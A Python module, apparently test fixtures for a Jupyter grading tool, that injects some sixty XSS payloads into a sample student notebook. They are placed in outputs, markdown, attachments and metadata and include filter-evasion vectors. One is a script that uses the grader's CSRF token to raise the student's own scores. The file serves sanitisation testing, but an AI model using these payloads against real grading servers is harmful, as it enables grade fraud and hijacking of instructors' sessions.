"""What a student might put into a notebook so that it acts on whoever opens it: one payload per name.

Each gets an ``act``, JavaScript that gives itself away, and an ``address`` that hears of every request to it; it
changes the executed notebook of the sample course.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

Notebook = dict[str, Any]
Payload = Callable[[Notebook, str, str], None]
GIVES_ITSELF_POINTS = (
    "var mine=submission_id;$.getJSON(base_url+'/api/grades?submission_id='+mine,function(all){all.forEach(function(g){"
    "g.manual_score=4;$.ajax({url:base_url+'/api/grade/'+g.id,method:'PUT',contentType:'application/json',"
    "headers:{'X-CSRFToken':getCookie('_xsrf')},data:JSON.stringify(g)})})});")


def cell(notebook: Notebook, name: str) -> dict[str, Any]:
    """Return the cell of the sample notebook with this grade_id."""
    found: dict[str, Any] = next(one for one in notebook["cells"]
                                 if one["metadata"].get("nbgrader", {}).get("grade_id") == name)
    return found


def shown(notebook: Notebook, data: Any, metadata: Any = None, kind: str = "display_data") -> None:
    """Let the answer cell show one output."""
    output = {"output_type": kind, "data": data, "metadata": metadata or {}}
    cell(notebook, "double")["outputs"] = [output | ({"execution_count": 1} if kind == "execute_result" else {})]


def packed(text: str) -> str:
    """Return text as base64."""
    return base64.b64encode(text.encode()).decode()


def html(template: str, **more: Any) -> Payload:
    """An output of type text/html; ACT and ADDRESS are filled in."""
    return lambda notebook, act, address: shown(notebook, {"text/html": filled(template, act, address)}, **more)


def displayed(mime: str, template: str) -> Payload:
    """An output of another type, with its words as a fallback."""
    return lambda notebook, act, address: shown(notebook, {mime: filled(template, act, address), "text/plain": "words"})


def written(template: str) -> Payload:
    """A written answer in Markdown."""
    def put(notebook: Notebook, act: str, address: str) -> None:
        cell(notebook, "why")["source"] = filled(template, act, address)
    return put


def extra(kind: str, template: str, metadata: Any = None) -> Payload:
    """A cell of the student's own."""
    def put(notebook: Notebook, act: str, address: str) -> None:
        notebook["cells"].append({"cell_type": kind, "id": "own", "metadata": metadata or {},
                                  "source": filled(template, act, address)})
    return put


def filled(template: str, act: str, address: str) -> str:
    """Return the template with script and address in their places."""
    return template.replace("ACT", act).replace("ADDRESS", address)


def _raw_field(key: str, value: Any) -> Payload:
    """A field of the answer cell's JSON, beyond its form."""
    def put(notebook: Notebook, act: str, address: str) -> None:
        cell(notebook, "double")[key] = filled(value, act, address) if isinstance(value, str) else value
    return put


def _stream(template: str) -> Payload:
    def put(notebook: Notebook, act: str, address: str) -> None:
        cell(notebook, "double")["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": filled(template, act, address)}]
    return put


def _traceback(notebook: Notebook, act: str, address: str) -> None:
    lines = [f"\x1b[31m<script>{act}</script>\x1b[0m", f"\x1b[38;2;1;2;<img src={address}>m<img src={address}>"]
    cell(notebook, "double")["outputs"] = [
        {"output_type": "error", "ename": f"<script>{act}</script>", "evalue": f"<img src='{address}'>",
         "traceback": lines}]


def _attachment(mime: str, content: str) -> Payload:
    def put(notebook: Notebook, act: str, address: str) -> None:
        why = cell(notebook, "why")
        why["source"] = "![a](attachment:a.png)"
        why["attachments"] = {"a.png": {mime: filled(content, act, address)}}
    return put


def _missing_attachment(notebook: Notebook, act: str, address: str) -> None:
    cell(notebook, "why")["source"] = f"![a](attachment:nothing.png)\n\n<img src={address}>"


def _widgets(notebook: Notebook, act: str, address: str) -> None:
    state = {"state": {"m": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                             "state": {"value": f"<img src='{address}' onerror=\"{act}\">"}}}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    shown(notebook, {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{act}</script>"},
                     "text/html": f"<script>{act}</script>", "text/plain": "0%"})


def _isolated(notebook: Notebook, act: str, address: str) -> None:
    shown(notebook, {"text/html": f"<script>{act}</script><img src='{address}'>"}, {"text/html": {"isolated": True}})


def _picture_of_elsewhere(notebook: Notebook, act: str, address: str) -> None:
    shown(notebook, {"image/png": "AAAA"}, {"filenames": {"image/png": address}})


def _picture_sizes(notebook: Notebook, act: str, address: str) -> None:
    png = packed("\x89PNG")
    shown(notebook, {"image/png": f'{png}" onerror="{act}'}, {"image/png": {"width": f'1 onerror="{act}"'}})


def _notebook_metadata(notebook: Notebook, act: str, address: str) -> None:
    words = f"</title><script>{act}</script><img src={address}>"
    notebook["metadata"] |= {"title": words, "kernelspec": {"name": words, "display_name": words, "language": words},
                             "language_info": {"name": words, "pygments_lexer": f'x"><img src={address}>'}}


def _heading_named_like_a_score(notebook: Notebook, act: str, address: str) -> None:
    cell(notebook, "why")["source"] = f"# test-double\n\ntest-total\n===\n\n<img src={address}>"


def _svg_attack(body: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9">{body}</svg>'


PAYLOADS: dict[str, Payload] = {
    "gives_itself_points": html(f"<script>{GIVES_ITSELF_POINTS}ACT</script>"),
    "script": html("<script>ACT</script>"),
    "script_loaded": html("<script src='ADDRESS'></script>"),
    "script_in_capitals": html("<ScRiPt >ACT</sCrIpT>"),
    "script_broken": html("<scr<script>ipt>ACT</scr</script>ipt><script>ACT</script foo>"),
    "picture_error": html("<img src='ADDRESS' onerror=\"ACT\">"),
    "picture_local": html("<img src='x' onerror=\"ACT\"><img src=/formgrader?path=/tmp>"),
    "picture_set": html("<img srcset='ADDRESS 1x'><picture><source srcset='ADDRESS'><img></picture>"),
    "handlers": html("<div onclick=\"ACT\" onmouseover=\"ACT\" style='width:99px;height:99px'>here</div>"
                     "<details open ontoggle=\"ACT\"><summary>s</summary></details>"
                     "<input autofocus onfocus=\"ACT\"><body onload=\"ACT\">"),
    "animation_handler": html("<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=\"ACT\">x</p>"),
    "link_javascript": html("<a href=\"javascript:ACT\">here</a><a href=\" jAva&#10;script:ACT\">here</a>"),
    "link_data": html("<a href='data:text/html,<script>ACT</script>'>here</a>"),
    "frame": html("<iframe src='ADDRESS'></iframe><iframe srcdoc=\"<script>parent.ACT</script>\"></iframe>"),
    "frame_javascript": html("<iframe src=\"javascript:parent.ACT\"></iframe>"),
    "object": html("<object data='ADDRESS'></object><embed src='ADDRESS'>"),
    "meta_refresh": html("<meta http-equiv=refresh content='0;url=ADDRESS'>"),
    "base": html("<base href='ADDRESS/'><img src=x>"),
    "style_sheet": html("<style>@import 'ADDRESS';</style><link rel=stylesheet href='ADDRESS'>"),
    "style_attribute": html("<p style=\"background:url(ADDRESS)\">x</p><p style='background-image:url(ADDRESS)'>x</p>"),
    "pandas_style": html("<style scoped>\n.dataframe{background:url(ADDRESS)}</style><table class=dataframe></table>"),
    "form": html("<form action='ADDRESS'><button>here</button></form><button formaction='ADDRESS'>b</button>"),
    "svg_in_html": html(_svg_attack("<script>ACT</script><image href='ADDRESS'/>")),
    "svg_handler": html("<svg onload=\"ACT\"><animate onbegin=\"ACT\" attributeName=x dur=1s></svg>"),
    "mathml": html("<math><maction actiontype='statusline' xlink:href=\"javascript:ACT\">x</maction></math>"
                   "<math><mtext><table><mglyph><style><img src=ADDRESS></style></table></mtext></math>"),
    "mutation": html("<noscript><p title=\"</noscript><img src=ADDRESS onerror=ACT>\"></noscript>"
                     "<form><math><mtext></form><form><mglyph><style></math><img src=ADDRESS></style></mglyph></form>"),
    "template": html("<template><script>ACT</script></template><div><template shadowrootmode=open>"
                     "<img src='ADDRESS'></template></div>"),
    "comment": html("<!--><img src='ADDRESS'>--><!--[if gte IE 4]><script>ACT</script><![endif]-->"
                    "<![CDATA[<script>ACT</script>]]>"),
    "audio": html("<audio src='ADDRESS' autoplay onerror=\"ACT\"></audio><video poster='ADDRESS'></video>"),
    "old_attributes": html("<table background='ADDRESS'><tr><td background='ADDRESS'>x</td></tr></table>"),
    "mathjax_script": html("<script type='text/x-mathjax-config'>ACT</script><script type=module>ACT</script>"),
    "closes_the_page": html("</div></div></body></html><script>ACT</script><img src=ADDRESS>"),
    "isolated": _isolated,
    "result_of_a_cell": html("<script>ACT</script>", kind="execute_result"),
    "list_of_lines": lambda notebook, act, address: shown(notebook, {"text/html": ["<scr", f"ipt>{act}</script>"]}),
    "javascript": displayed("application/javascript", "ACT"),
    "markdown_output": displayed("text/markdown", "<script>ACT</script>\n\n![x](ADDRESS) [here](javascript:ACT)"),
    "mermaid_output": displayed("text/vnd.mermaid", "</pre><script>ACT</script>"),
    "latex_output": displayed("text/latex", "$\\href{javascript:ACT}{here}$<script>ACT</script><img src=ADDRESS>"),
    "svg_output": displayed("image/svg+xml", _svg_attack("<script>ACT</script><image xlink:href='ADDRESS'/>"
                                                         "<foreignObject><img src='ADDRESS'/></foreignObject>")),
    "odd_spelling": lambda notebook, act, address: shown(
        notebook, {"Text/HTML": f"<script>{act}</script>", "text/html; charset=utf-8": f"<img src={address}>"}),
    "picture_of_elsewhere": _picture_of_elsewhere,
    "picture_sizes": _picture_sizes,
    "widgets": _widgets,
    "stream": _stream("<script>ACT</script>\x1b]8;;javascript:ACT\x07here\x1b]8;;\x07\x1b[31m<img src=ADDRESS>"),
    "traceback": _traceback,
    "markdown_html": written("<script>ACT</script>\n\n<img src='ADDRESS' onerror=\"ACT\">"),
    "markdown_link": written("[here](javascript:ACT) [here](java&#115;cript:ACT) [here][j] <javascript:ACT>\n\n"
                             "[j]: javascript:ACT\n"),
    "markdown_link_data": written("[here](data:text/html,%3Cscript%3EACT%3C/script%3E) [here](/formgrader?path=/tmp)"),
    "markdown_picture": written("![x](ADDRESS) ![y][p] ![z](data:image/svg+xml;base64,AAAA)\n\n[p]: ADDRESS\n"),
    "markdown_in_code": written("```mermaid\n</pre><script>ACT</script><img src=ADDRESS>\n```\n\n"
                                "`<img src=ADDRESS>`\n\n```</code><script>ACT</script>\nx\n```"),
    "markdown_formula": written("$$</script><script>ACT</script><img src=ADDRESS>$$ $\\href{javascript:ACT}{here}$ "
                                "\\begin{x}<img src=ADDRESS>\\end{x}"),
    "markdown_comment": written("<!-- > <img src=ADDRESS> --> <?x <script>ACT</script> ?>"),
    "markdown_table": written("| a |\n|---|\n| <img src=ADDRESS onerror=\"ACT\"> |\n\n> # <img src=ADDRESS>\n"),
    "raw_cell": extra("raw", "<script>ACT</script><img src=ADDRESS>"),
    "raw_cell_html": extra("raw", "<script>ACT</script><img src=ADDRESS>", {"raw_mimetype": "text/html"}),
    "markdown_cell": extra("markdown", "<iframe src=ADDRESS></iframe><script>ACT</script>"),
    "heading_named_like_a_score": _heading_named_like_a_score,
    "attachment_svg": _attachment("image/svg+xml", packed(_svg_attack("<script>ACT</script>"))),
    "attachment_type": _attachment('x" onerror="ACT" y="', "AAAA"),
    "attachment_content": _attachment("image/png", 'AAAA" onerror="ACT'),
    "attachment_missing": _missing_attachment,
    "cell_metadata": lambda notebook, act, address: cell(notebook, "double")["metadata"].update(
        {"alt": "a", "tags": [f'"><img src={address}>'], "magics_language": f'"><img src={address}>'}),
    "execution_count": _raw_field("execution_count", "<script>ACT</script><img src=ADDRESS>"),
    "cell_id": _raw_field("id", '"><script>ACT</script>'),
    "notebook_metadata": _notebook_metadata,
}
